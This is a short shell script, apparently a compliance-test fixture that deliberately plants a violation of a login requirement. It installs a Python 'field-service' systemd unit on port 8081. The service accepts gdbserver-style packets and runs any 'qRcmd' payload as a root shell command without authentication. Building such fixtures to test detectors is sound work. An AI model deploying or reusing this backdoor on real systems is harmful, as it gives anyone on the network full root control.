# SPDX-License-Identifier: Apache-2.0
# breaks: CR 1.1
# how: gdbserver's protocol: whoever connects debugs a process of root's
# asserts: no listener gives a prompt or output before a login
# also: CR_2_1_RE_1_services_hold_no_more_than_declared: its unit is not declared either
set -eu
cat >/usr/libexec/field-service <<'P'
import socket, subprocess, threading
def pkt(b): return b'$' + b + b'#%02x' % (sum(b) % 256)
def serve(c):
    buf = b''
    while True:
        d = c.recv(4096)
        if not d: return
        buf += d
        while b'#' in buf and b'$' in buf:
            p, _, rest = buf[buf.index(b'$') + 1:].partition(b'#'); buf = rest[2:]
            if p.startswith(b'qRcmd,'): out = subprocess.run(bytes.fromhex(p[6:].decode()), shell=True, capture_output=True).stdout.hex().encode()
            else: out = b''
            c.sendall(b'+' + pkt(out))
s = socket.create_server(('0.0.0.0', 8081))
while True:
    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
P
chmod 0755 /usr/libexec/field-service
printf '[Service]\nExecStart=/usr/bin/python3 /usr/libexec/field-service\n' >/etc/systemd/system/field.service
systemctl daemon-reload
systemctl start field.service
for _ in 1 2 3 4 5 6 7 8 9 10; do grep -q ':1F91 ' /proc/net/tcp && break; sleep 1; done
grep -q ':1F91 ' /proc/net/tcp
